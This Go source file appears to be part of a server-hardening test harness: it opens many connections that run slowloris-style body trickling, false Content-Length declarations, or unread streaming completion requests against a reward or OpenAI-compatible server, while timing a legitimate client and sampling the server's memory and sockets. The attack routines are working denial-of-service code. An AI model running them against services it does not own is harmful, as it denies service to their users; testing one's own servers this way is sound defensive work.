package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Attack kinds (--attack): what each of --attackers connections does while
// a legitimate client sends one request at a time.
const (
	// attackTrickle sends a POST declaring a 4 KiB body and then one byte
	// per second: a slowloris on the body.
	attackTrickle = "trickle"
	// attackLieLength declares a Content-Length of --declared bytes, sends
	// one byte and waits: a server that sizes its buffer from the header
	// pays for what was only claimed.
	attackLieLength = "lie-length"
	// attackNoRead sends a complete streaming completion request and never
	// reads the answer (OpenAI server only).
	attackNoRead = "no-read"
)

// attackResult is what one attack measured.
type attackResult struct {
	Attack    string `json:"attack"`
	Target    string `json:"target"`
	Attackers int    `json:"attackers"`
	// Connected counts the attackers that got a connection; HeldAtEnd
	// those the server had not closed when the attack ended.
	Connected int `json:"connected"`
	HeldAtEnd int `json:"held_at_end"`
	// ServerSockets counts the sockets the server process has open when
	// the attack ends (with --pid; its listener and the legitimate
	// client's connection included). Unlike HeldAtEnd it does not count a
	// connection the server closed while data it wrote is still queued.
	ServerSockets int `json:"server_sockets,omitempty"`
	// Legit counts the legitimate requests sent during the attack, OK those
	// answered 200, and Codes every status (or "error") seen.
	Legit int            `json:"legit"`
	OK    int            `json:"ok"`
	Codes map[string]int `json:"codes"`
	// P50ms and MaxMs are the latencies of the legitimate requests answered 200.
	P50ms float64 `json:"p50_ms"`
	MaxMs float64 `json:"max_ms"`
	// BaselineMs is the median latency of legitimate requests before the attack.
	BaselineMs float64 `json:"baseline_ms"`
	// RSSBeforeMiB, RSSPeakMiB: the server's resident memory (/proc/PID,
	// with --pid) before the attack and its peak sampled every 100 ms.
	RSSBeforeMiB float64 `json:"rss_before_mib,omitempty"`
	RSSPeakMiB   float64 `json:"rss_peak_mib,omitempty"`
	Seconds      float64 `json:"seconds"`
}

// attackOptions are the flags of attack mode.
type attackOptions struct {
	Kind      string
	Target    string // reward or openai
	Attackers int
	Declared  int64
	Duration  time.Duration
	PID       int
}

// legitRequest returns the path and body a legitimate client sends.
func legitRequest(target string) (string, []byte) {
	if target == "openai" {
		return "/v1/completions", []byte(`{"model":"m","prompt":"1+1=","max_tokens":4,"temperature":0}`)
	}
	return "/v1/reward", []byte(`{"groups":[{"id":"g","gold":"2","rollouts":[{"response":"The answer is \\boxed{2}."}]}]}`)
}

// runAttack opens the attackers, measures a legitimate client during
// o.Duration, then closes everything.
func runAttack(ctx context.Context, base string, o attackOptions) (attackResult, error) {
	u, err := url.Parse(base)
	if err != nil {
		return attackResult{}, fmt.Errorf("--url: %w", err)
	}
	path, legitBody := legitRequest(o.Target)
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{MaxIdleConnsPerHost: 1}}
	legit := func() (time.Duration, string) {
		req, _ := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimRight(base, "/")+path, bytes.NewReader(legitBody))
		req.Header.Set("Content-Type", "application/json")
		t := time.Now()
		resp, err := client.Do(req)
		if err != nil {
			return 0, "error"
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return time.Since(t), strconv.Itoa(resp.StatusCode)
	}
	res := attackResult{Attack: o.Kind, Target: o.Target, Attackers: o.Attackers, Codes: map[string]int{}}
	var base50 []time.Duration
	for range 20 {
		d, code := legit()
		if code != "200" {
			return res, fmt.Errorf("legitimate request before the attack: %s", code)
		}
		base50 = append(base50, d)
	}
	slices.Sort(base50)
	res.BaselineMs = ms(base50[len(base50)/2])
	res.RSSBeforeMiB = rssMiB(o.PID)

	actx, cancel := context.WithCancel(ctx)
	defer cancel()
	var peak atomic.Int64
	var samplers sync.WaitGroup
	if o.PID > 0 {
		samplers.Go(func() {
			t := time.NewTicker(100 * time.Millisecond)
			defer t.Stop()
			for {
				if kib := rssKiB(o.PID); kib > peak.Load() {
					peak.Store(kib)
				}
				select {
				case <-actx.Done():
					return
				case <-t.C:
				}
			}
		})
	}
	conns := make([]net.Conn, o.Attackers)
	var attackers sync.WaitGroup
	var connected atomic.Int64
	dialer := net.Dialer{Timeout: 5 * time.Second}
	if o.Kind == attackNoRead {
		dialer.Control = smallReceiveBuffer
	}
	for i := range conns {
		c, err := dialer.Dial("tcp", u.Host)
		if err != nil {
			continue
		}
		conns[i] = c
		connected.Add(1)
		attackers.Go(func() { attack(actx, c, u.Host, o) })
	}
	res.Connected = int(connected.Load())
	start := time.Now()
	var lat []time.Duration
	for time.Since(start) < o.Duration {
		d, code := legit()
		res.Legit++
		res.Codes[code]++
		if code == "200" {
			res.OK++
			lat = append(lat, d)
		}
		time.Sleep(50 * time.Millisecond)
	}
	res.Seconds = time.Since(start).Seconds()
	res.ServerSockets = sockets(o.PID)
	var held atomic.Int64
	var checks sync.WaitGroup
	for _, c := range conns {
		if c != nil {
			checks.Go(func() {
				if open(c) {
					held.Add(1)
				}
			})
		}
	}
	checks.Wait()
	res.HeldAtEnd = int(held.Load())
	cancel()
	for _, c := range conns {
		if c != nil {
			c.Close()
		}
	}
	attackers.Wait()
	samplers.Wait()
	slices.Sort(lat)
	if len(lat) > 0 {
		res.P50ms, res.MaxMs = ms(lat[len(lat)/2]), ms(lat[len(lat)-1])
	}
	res.RSSPeakMiB = float64(peak.Load()) / 1024
	return res, nil
}

func ms(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }

// attack runs one attacking connection until ctx ends or the server closes it.
func attack(ctx context.Context, c net.Conn, host string, o attackOptions) {
	path, _ := legitRequest(o.Target)
	switch o.Kind {
	case attackTrickle:
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 4096\r\n\r\n", path, host)
		t := time.NewTicker(time.Second)
		defer t.Stop()
		for {
			if _, err := c.Write([]byte(" ")); err != nil {
				return
			}
			select {
			case <-ctx.Done():
				return
			case <-t.C:
			}
		}
	case attackLieLength:
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", path, host, o.Declared)
	case attackNoRead:
		// 32 choices of up to the context's length: megabytes of events,
		// more than the kernel buffers between the two ends hold.
		body := `{"model":"m","prompt":"Count:","max_tokens":100000,"n":32,"stream":true,"ignore_eos":true}`
		fmt.Fprintf(c, "POST /v1/completions HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", host, len(body), body)
	}
	<-ctx.Done()
}

// open reports whether the server still holds c open: a read that times
// out means open; EOF or a reset means the server closed it. Data the
// server sent (an error answer) is drained first.
func open(c net.Conn) bool {
	br := bufio.NewReader(c)
	for range 1 << 20 { // a server still streaming to a no-read attacker
		c.SetReadDeadline(time.Now().Add(20 * time.Millisecond))
		if _, err := br.ReadByte(); err != nil {
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				return true
			}
			return false
		}
	}
	return true
}

// rssKiB reads VmRSS of pid from /proc (0 when unknown).
func rssKiB(pid int) int64 {
	if pid <= 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	for _, line := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, "VmRSS:"); ok {
			f := strings.Fields(rest)
			if len(f) > 0 {
				n, _ := strconv.ParseInt(f[0], 10, 64)
				return n
			}
		}
	}
	return 0
}

func rssMiB(pid int) float64 { return float64(rssKiB(pid)) / 1024 }

// sockets counts the open socket descriptors of pid (0 when unknown).
func sockets(pid int) int {
	if pid <= 0 {
		return 0
	}
	dir := fmt.Sprintf("/proc/%d/fd", pid)
	es, err := os.ReadDir(dir)
	if err != nil {
		return 0
	}
	n := 0
	for _, e := range es {
		if l, err := os.Readlink(dir + "/" + e.Name()); err == nil && strings.HasPrefix(l, "socket:") {
			n++
		}
	}
	return n
}
